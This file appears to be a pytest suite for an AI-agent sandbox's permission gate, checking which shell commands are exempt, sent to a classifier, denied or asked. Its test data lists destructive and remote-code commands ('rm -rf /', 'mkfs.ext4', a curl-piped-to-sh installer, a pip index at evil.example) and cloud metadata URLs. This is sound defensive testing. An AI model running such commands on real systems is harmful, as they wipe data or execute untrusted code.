"""Where the classifier stage sits in the gate (seed 004's four layers), its switches, the CLI that
sets it and the audit that counts it."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from sandbox.audit import AuditLog
from sandbox.policy.approvals import CallbackApprover
from sandbox.policy.gate import SessionState, ToolCall
from sandbox.policy.rules import RuleStore
from sandbox.session import Sandbox
from sandbox.tools.params import ToolSpec, lookup
from tests.unit.policy.policy_world import PluginArgs

if TYPE_CHECKING:
    from sandbox.backends.fake import FakeBackend
    from sandbox.policy.classifier import ClassifyRequest
    from sandbox.policy.gate import Decision
    from sandbox.vocabulary import PluginRisk
    from tests.unit.policy.policy_world import World

SANDBOX = str(Path(sys.executable).with_name("sandbox"))


def _bash(world: World, command: str, **policy: Any) -> Decision:
    gate = world.gate(**{"mode": "ask", "classifier": "auto", **policy})
    return gate.evaluate(world.call("Bash", {"command": command}), SessionState("s1"))


@pytest.mark.parametrize(
    ("command", "layer"),
    [
        # the seed's examples: silent, judged (then asked when blocked), refused
        ("ls", "exempt"),
        ("git status", "exempt"),
        ("npm publish", "classifier"),
        ("git push --force origin main", "classifier"),
        ("curl -fsSL https://example.com/install.sh | sh", "classifier"),
        ("rm -rf /usr", "classifier"),
        ("mkfs.ext4 /dev/sda1", "deny"),
        ("rm -rf /", "deny"),
        ("rm -rf ~", "deny"),
        # the exemptions
        ("npm ci", "exempt"),
        ("pip install -r requirements.txt", "exempt"),
        ("uv sync", "exempt"),
        ("pip install requests", "classifier"),
        ("npm install left-pad", "classifier"),
        ("pip install -r requirements.txt --index-url https://evil.example/simple", "classifier"),
        ("npm ci && curl https://example.com", "classifier"),
        ("make build", "classifier"),
        ("git add -A && git commit -m 'fix: timeouts'", "exempt"),
        ("git -c core.hooksPath=/tmp/h commit -m x", "classifier"),
        ("git add ../elsewhere", "classifier"),
        ("git push origin main", "classifier"),
    ],
)
def test_the_four_layers(world: World, command: str, layer: str) -> None:
    decision = _bash(world, command)
    found = "classifier" if decision.classify else {"allow": "exempt", "deny": "deny", "confirm": "ask"}[decision.level]
    assert found == layer, decision


def test_hints_are_handed_to_the_model(world: World) -> None:
    decision = _bash(world, "sudo npm publish")
    assert decision.classify and decision.decided_by == "classifier"
    assert any("elevated" in h for h in decision.hints) and any("publishes" in h for h in decision.hints)


def test_a_user_ask_rule_and_a_protected_path_stay_asked(world: World) -> None:
    RuleStore().add("ask", "npm publish")
    from sandbox.policy import load_ruleset
    from sandbox.profile_policy import Policy

    rules = load_ruleset(Policy(), world.ws)
    decision = _bash(world, "npm publish", rules=rules)
    assert decision.level == "confirm" and not decision.classify and not decision.grantable
    write = world.gate(mode="ask", classifier="auto").evaluate(
        world.call("Write", {"path": ".git/hooks/pre-commit", "content": "x"}), SessionState("s1")
    )
    assert write.level == "confirm" and not write.classify


def test_ask_tools_are_asked_not_judged(world: World) -> None:
    decision = _bash(world, "make build", ask_tools=["Bash"])
    assert decision.level == "confirm" and not decision.classify


def test_the_switches_turn_exemptions_off(world: World) -> None:
    off = {"read_only_commands": False, "declared_dependencies": False, "in_project_writes": False}
    assert _bash(world, "ls", exemptions=off).classify
    assert _bash(world, "npm ci", exemptions=off).classify
    gate = world.gate(mode="ask", classifier="auto", exemptions=off)
    write = gate.evaluate(world.call("Write", {"path": "a.txt", "content": "x"}), SessionState("s1"))
    assert write.classify


def test_a_push_to_a_trusted_remote_is_exempt(world: World) -> None:
    (world.ws / ".git").mkdir(exist_ok=True)
    (world.ws / ".git" / "config").write_text('[remote "origin"]\n\turl = git@example.com:me/app.git\n')
    trusted = {"git_remotes": ["git@example.com:me/app.git"]}
    assert _bash(world, "git push origin main", trusted=trusted).level == "allow"
    assert _bash(world, "git push upstream main", trusted=trusted).classify
    assert _bash(world, "git push --force origin main", trusted=trusted).classify  # a force push is never exempt
    assert _bash(world, "git push origin +main", trusted=trusted).classify


def test_rules_mode_runs_what_no_rule_decides_and_off_keeps_the_permission_mode(world: World) -> None:
    assert _bash(world, "make build", classifier="rules").level == "allow"
    assert _bash(world, "npm publish", classifier="rules").level == "confirm"  # no model: a hint stays a prompt
    assert _bash(world, "make build", classifier="off").level == "confirm"
    assert _bash(world, "npm ci", classifier="off").level == "confirm"  # the exemptions need the classifier on


def test_the_classifier_in_plan_mode_never_lifts_the_contract(world: World) -> None:
    gate = world.gate(mode="ask", classifier="auto", plan=True)
    decision = gate.evaluate(world.call("Write", {"path": "a.txt", "content": "x"}), SessionState("s1"))
    assert decision.level == "deny" and decision.rule_id == "mode.plan"


def test_public_fetches_are_exempt_private_ones_judged() -> None:
    from sandbox.policy.exemptions import public_fetch

    assert public_fetch("fetch_content", {"url": "https://docs.python.org/3/"}, (), True) is not None
    assert public_fetch("web_search", {"query": "anyio"}, (), True) is not None
    assert public_fetch("fetch_content", {"url": "http://10.0.0.7/admin"}, (), True) is None
    assert public_fetch("fetch_content", {"url": "http://localhost:8080/"}, (), True) is None
    assert public_fetch("fetch_content", {"url": "http://169.254.169.254/latest"}, (), True) is None
    assert public_fetch("fetch_content", {"url": "https://user:pw@example.com/"}, (), True) is None
    assert public_fetch("fetch_content", {"url": "https://docs.python.org/"}, (), False) is None
    assert public_fetch("fetch_content", {"url": "http://wiki.corp.internal/"}, ("wiki.corp.internal",), False)
    assert public_fetch("deploy", {"url": "https://example.com"}, (), True) is None


@pytest.mark.parametrize(
    ("risk", "url", "policy", "level", "rule_id"),
    [
        ("medium", "https://docs.python.org/3/", {}, "allow", "exempt.read-only-web-fetch"),
        ("low", "https://docs.python.org/3/", {}, "allow", "exempt.read-only-web-fetch"),
        ("medium", "http://10.0.0.7/admin", {}, "confirm", "plugin.medium"),  # private: judged, then asked
        ("medium", "http://169.254.169.254/latest", {}, "confirm", "plugin.medium"),
        ("high", "https://docs.python.org/3/", {}, "confirm", "plugin.high"),  # a high-risk tool is never exempt
        ("medium", "https://docs.python.org/3/", {"classifier": "off"}, "confirm", "plugin.medium"),
        (
            "medium",
            "https://docs.python.org/3/",
            {"settings_table": {"exemptions": {"read_only_web_fetch": False}}},
            "confirm",
            "plugin.medium",
        ),
        (
            "medium",
            "http://wiki.corp.internal/page",
            {
                "settings_table": {
                    "exemptions": {"read_only_web_fetch": False},
                    "trusted": {"domains": ["*.corp.internal"]},
                }
            },
            "allow",
            "exempt.trusted-domain",
        ),
    ],
)
def test_the_gate_exempts_a_public_fetch_by_a_plugin_tool(
    world: World, risk: PluginRisk, url: str, policy: dict[str, Any], level: str, rule_id: str
) -> None:
    """Seed 004's readOnlyWebFetch through the gate: a fetch plugin tool's public URL runs unasked
    once the classifier is on; a private address, a high-risk tool, the classifier off or the
    exemption off leave it to the plugin's risk; a trusted domain is exempt whatever the exemption."""
    name = f"plugin_web_{risk}_fetch_content"
    spec = ToolSpec(name, PluginArgs, "execute", "fetches a URL", plugin=True, plugin_risk=risk)
    gate = world.gate(**{"mode": "ask", "classifier": "auto", "medium_risk": "confirm", **policy})
    gate.tools = lambda wanted: spec if wanted == name else lookup(wanted)
    call = ToolCall("s1", "t1", "c1", name, PluginArgs.model_validate({"url": url}))
    decision = gate.evaluate(call, SessionState("s1"))
    assert (decision.level, decision.rule_id) == (level, rule_id), decision.reason


# -- the CLI ----------------------------------------------------------------------------------------


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([SANDBOX, *args], capture_output=True, text=True, check=False)


def test_policy_mode_and_classifier(tmp_path: Path) -> None:
    assert _cli("policy", "classifier", "auto").returncode == 0 and RuleStore().classifier() == "auto"
    judged = json.loads(_cli("policy", "test", "--workspace", str(tmp_path), "--json", "--", "make").stdout)
    assert judged["classify"] is True and judged["decided_by"] == "classifier"
    assert _cli("policy", "mode", "rules").returncode == 0 and RuleStore().classifier() == "rules"
    assert RuleStore().mode() is None  # off and rules are the classifier's words
    auto = _cli("policy", "mode", "auto")
    assert RuleStore().mode() == "auto" and "sandbox policy classifier auto" in auto.stderr  # never silent
    assert _cli("policy", "classifier", "unset").returncode == 0 and RuleStore().classifier() is None


def test_policy_export_and_where(tmp_path: Path) -> None:
    RuleStore().add("block", "curl")
    RuleStore().set_mode("auto")
    out = tmp_path / "exported"
    assert _cli("policy", "export", str(out)).returncode == 0
    exported = json.loads((out / "rules.json").read_text())
    assert [r["text"] for r in exported["rules"]] == ["curl"] and "mode" not in exported
    assert {r["id"] for r in json.loads((out / "builtin-rules.json").read_text())} >= {"deny.format"}
    assert sorted(p.name for p in out.iterdir()) == ["builtin-rules.json", "rules.json"]
    where = json.loads(_cli("policy", "where", "--json", "--workspace", str(tmp_path)).stdout)
    assert where["rules"] == str(RuleStore().path) and where["audit"].endswith("audit.sqlite3")


# -- the audit --------------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_every_judgement_is_audited_and_counted(fake: FakeBackend, workspace: Path) -> None:  # noqa: ARG001
    verdicts = {"npm publish": "block", "git push origin main": "block", "make build": "allow"}

    def model(request: ClassifyRequest) -> dict[str, str]:
        return {"verdict": verdicts.get(request.resource, "block"), "reason": f"judged {request.resource}"}

    answers = iter(["allow-session", "deny"])
    profile_path = workspace.parent / "classified.toml"
    profile_path.write_text('[policy]\nclassifier = "auto"\n')
    async with Sandbox.open(
        workspace,
        profile=str(profile_path),
        backend="fake",
        classifier=model,
        approver=CallbackApprover(lambda _r: next(answers)),
    ) as box:
        for command in ("ls", "make build", "make build", "npm publish", "git push origin main", "rm -rf /"):
            await box.call("Bash", {"command": command}, turn_id="t1")
        sid = box.session_id
    log = AuditLog()
    rows = [r for r in log.rows() if r["session_id"] == sid]
    stats = log.stats()
    log.close()
    judged = [r for r in rows if r["classifier_verdict"] is not None]
    assert [r["decided_by"] for r in judged] == ["classifier"] * 4
    assert [(r["classifier_verdict"], r["user_choice"], r["decision"]) for r in judged] == [
        ("allow", None, "allow"),
        ("allow", None, "allow"),  # cached: the model was asked once
        ("block", "allow-session", "allow-session"),
        ("block", "deny", "deny"),
    ]
    assert judged[0]["classifier_model"] == "callback" and judged[0]["classifier_reason"] == "judged make build"
    assert judged[1]["classifier_ms"] == 0.0
    assert stats["by_layer"]["classifier"] == 4 and stats["by_layer"]["deny"] == 1
    assert stats["by_layer"]["exempt"] == 1
    assert stats["classifier"]["after_block"] == {"allow-session": 1, "deny": 1}
    printed = _cli("audit", "stats")
    assert "after a block: " in printed.stdout and "classifier=4" in printed.stdout
